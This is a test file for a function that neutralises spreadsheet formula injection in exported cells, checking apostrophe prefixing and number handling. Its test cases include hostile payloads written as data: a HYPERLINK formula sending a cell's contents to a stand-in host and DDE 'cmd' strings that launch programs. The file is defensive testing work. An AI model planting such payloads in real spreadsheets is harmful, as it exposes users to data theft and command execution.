import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { FORMULA_TRIGGERS, neutraliseFormula, spreadsheetCell, startsLikeFormula } from './spreadsheet-cell.js';

describe('neutraliseFormula', () => {
  it.each<[string, string]>([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example/?d="&A1, "Cliquez")', `'=HYPERLINK("https://evil.example/?d="&A1, "Cliquez")`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ['-2+3', "'-2+3"],
    ['-', "'-"],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['\t=1+1', "'\t=1+1"],
    ['\tjust a tab', "'\tjust a tab"],
    ['\r=1+1', "'\r=1+1"],
    ['\rline', "'\rline"],
    ['\n=1+1', "'\n=1+1"],
    ['   =1+1', "'   =1+1"],
    ['\u00a0@x', "'\u00a0@x"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
    ['\uFF20x', "'\uFF20x"],
    ["'=already quoted", "'=already quoted"],
  ])('prefixes %j with an apostrophe', (hostile, expected) => {
    expect(startsLikeFormula(hostile)).toBe(!hostile.startsWith("'"));
    expect(neutraliseFormula(hostile)).toBe(expected);
  });

  it.each<string>([
    '',
    'Très satisfait·e',
    'Plutôt d’accord',
    '1 + 1 = 2',
    'a=b',
    'e-mail: x@example.org',
    '2026-05-12',
    '12',
    '  spaces then text',
    'Je ne sais pas',
    '\u202f?',
  ])('leaves %j as it is', (text) => {
    expect(startsLikeFormula(text)).toBe(false);
    expect(neutraliseFormula(text)).toBe(text);
  });

  it('never leaves a text that starts like a formula, and only ever adds one apostrophe in front', () => {
    const hostileStart = fc.constantFrom(...FORMULA_TRIGGERS, ' =', '\n+', '  @');
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.tuple(hostileStart, fc.string()).map(([start, rest]) => start + rest)), (text) => {
        const out = neutraliseFormula(text);
        expect(startsLikeFormula(out)).toBe(false);
        expect(out === text || out === `'${text}`).toBe(true);
        expect(neutraliseFormula(out)).toBe(out);
      }),
    );
  });
});

describe('spreadsheetCell', () => {
  it.each<[number, number]>([
    [4, 4],
    [-12, -12],
    [-0.5, -0.5],
    [0, 0],
    [1e21, 1e21],
  ])('keeps the number %p a number', (value, expected) => {
    expect(spreadsheetCell(value)).toBe(expected);
  });

  it('turns -0 into 0', () => {
    expect(Object.is(spreadsheetCell(-0), 0)).toBe(true);
  });

  it.each<[number, string]>([
    [Number.NaN, 'NaN'],
    [Number.POSITIVE_INFINITY, 'Infinity'],
    [Number.NEGATIVE_INFINITY, "'-Infinity"],
  ])('writes %p, which no cell holds as a number, as text', (value, expected) => {
    expect(spreadsheetCell(value)).toBe(expected);
  });

  it.each<[string, string]>([
    ['-12', "'-12"],
    ['=2*3', "'=2*3"],
    ['Oui', 'Oui'],
  ])('treats the text %j as text, neutralised, even when it looks like a number', (text, expected) => {
    expect(spreadsheetCell(text)).toBe(expected);
  });

  it.each([null, undefined])('gives an empty cell for %p', (value) => {
    expect(spreadsheetCell(value)).toBeNull();
  });
});
